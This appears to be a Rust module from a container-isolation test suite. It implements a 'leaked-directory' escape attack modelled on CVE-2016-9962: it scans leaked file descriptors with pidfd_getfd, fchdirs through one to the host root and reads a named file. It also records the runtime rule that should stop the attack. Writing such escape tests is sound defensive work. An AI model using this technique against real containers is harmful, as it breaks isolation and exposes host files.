//! Walks out through a directory of the host that somebody left open.
//! fchdir(2) takes a file descriptor, and looks at no root directory.

use std::os::fd::AsRawFd;

use nix::unistd::{Pid, fchdir};
use rustix::process::{PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};

use crate::attack::{
    Arguments, Attack, Ended, FILE, OrStopped, Outcome, StoppedBy, Try,
};
use crate::outside;

pub const ATTACK: Attack = Attack {
    name: "leaked-directory",
    tries: "fchdir to a directory that was left open, and climb from there",
    stopped: StoppedBy::Runtime,
    rule: "no descriptor above 2 survives the exec (close_range, CLOEXEC)",
    source: "fchdir(2), close_range(2), CVE-2016-9962",
    arguments: &[FILE],
    run,
};

/// What a careless program leaves open has a small number.
const NUMBERS: std::ops::Range<i32> = 3..64;

fn run(arguments: &Arguments) -> Try {
    let root = outside::look("/")?;
    for number in NUMBERS {
        if stand_in(number)? && outside::climb(root)? {
            return outside::read(arguments.text("FILE")?);
        }
    }
    Ok(Outcome::Stopped(format!(
        "no descriptor from {} to {} leads out",
        NUMBERS.start,
        NUMBERS.end - 1
    )))
}

/// To Rust, a number is not a descriptor: nobody owns it. pidfd_getfd(2) turns
/// it into one, here with ourselves as the process that has the number.
fn stand_in(number: i32) -> Result<bool, Ended> {
    let me = rustix::process::Pid::from_raw(Pid::this().as_raw());
    let me = me.and_then(|me| pidfd_open(me, PidfdFlags::empty()).ok());
    let Some(me) = me.filter(|me| me.as_raw_fd() != number) else {
        return Ok(false);
    };
    match pidfd_getfd(&me, number, PidfdGetfdFlags::empty()) {
        Err(rustix::io::Errno::BADF) => Ok(false),
        found => {
            let found = found.or_stopped(format!("pidfd_getfd({number})"))?;
            Ok(fchdir(&found).is_ok())
        }
    }
}
